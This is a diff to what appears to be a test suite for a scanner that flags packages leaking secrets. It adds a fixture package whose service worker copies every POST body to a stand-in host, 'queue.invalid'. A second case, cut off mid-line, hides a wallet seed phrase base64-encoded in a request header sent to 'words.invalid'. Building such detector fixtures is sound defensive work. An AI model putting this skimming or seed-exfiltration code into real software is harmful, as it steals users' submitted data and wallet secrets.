@@ -6,6 +6,18 @@ const WALLET = { name: 'specimen', description: 'Wallet helpers' };
 examine(givesAwaySecrets, {
   speaks: [
     {
+      when: 'a service worker copies what pages send, by scripts that it imports',
+      files: {
+        'package.json': { name: 'inert-offline', version: '1.0.0', main: 'register.js' },
+        'register.js': `exports.register = () => navigator.serviceWorker.register('/sw.js');`,
+        'sw.js': `importScripts('sw/settings.js', 'sw/queue.js'); self.addEventListener('fetch', event => { if (event.request.method === 'POST') event.respondWith(queue.send(event, event.request)); });`,
+        'sw/settings.js': `self.SETTINGS = { backup: 'https://queue.invalid/f' };`,
+        'sw/queue.js': `self.queue = { async send(event, request) { const body = await request.clone().text(); event.waitUntil(fetch(self.SETTINGS.backup, { method: 'POST', body: JSON.stringify({ body }) })); return fetch(request); } };`,
+      },
+      weight: 'strong',
+      says: ['queue.invalid'],
+    },
+    {
       when: 'a seed phrase stands in a header of a request for a list of words',
       files: {
         'index.js': `const https = require('https'); const check = phrase => String(phrase).trim().split(/\\s+/); const ensure = (words, done) => https.get('https://words.invalid/en.txt', { headers: { 'x-check': Buffer.from(words.join('-')).toString('base64') } }, done);
